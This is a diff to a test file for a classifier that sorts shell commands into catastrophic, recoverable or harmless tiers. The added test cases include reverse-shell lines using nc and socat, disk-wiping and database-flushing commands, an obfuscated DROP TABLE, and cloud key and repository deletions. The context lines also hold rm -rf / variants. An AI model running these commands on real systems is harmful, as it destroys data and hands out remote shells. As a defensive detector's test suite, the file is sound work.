@@ -83,6 +83,8 @@ test.each([
   "node -e \"const cp = require('child_process'); cp.spawn('rm', ['-rf', '/'])\"",
   'deno eval \'new Deno.Command("rm", { args: ["-rf", "/"] })\'',
   "R -e 'system(\"rm -rf /\")'",
+  "nc -e /bin/sh host 80",
+  "socat TCP:host:80 EXEC:bash",
 ])("%j is catastrophic", (script) => {
   expect(tiers(script)).toContain("catastrophic");
 });
@@ -121,6 +123,22 @@ test.each([
   "chmod -R 777 .",
   "cargo publish",
   "git push origin --delete b",
+  "scrub /dev/sda",
+  "xfs_repair -L /dev/sdb1",
+  "mount -o remount,ro /dev/sda1",
+  "vgremove vg",
+  "kubectl exec x -- rm -rf /data",
+  "ssh host rm -r /srv/x",
+  "valkey-cli flushall",
+  "redis-cli eval 'return redis.call(\"flushall\")' 0",
+  "mongorestore --drop x",
+  'psql -c "DROP/**/TABLE x"',
+  "virsh undefine x",
+  "docker compose rm -f; docker secret rm x",
+  "podman system reset",
+  "aws kms schedule-key-deletion --key-id x",
+  "gh api --method DELETE repos/a/b",
+  "crontab jobs",
 ])("%j can be recovered from", (script) => {
   expect(tiers(script)).toEqual(["recoverable"]);
 });
@@ -180,6 +198,10 @@ test.each([
   "parallel rm -rf ::: build dist",
   "python3 -c \"print('rm -rf /')\"",
   "docker run -v /srv/x:/x alpine ls",
+  "lsblk /dev/sda",
+  "crontab -l",
+  "ssh host rm x",
+  "redis-cli get flushed",
 ])("%j is not a destruction", (script) => {
   expect(tiers(script)).toEqual([]);
 });
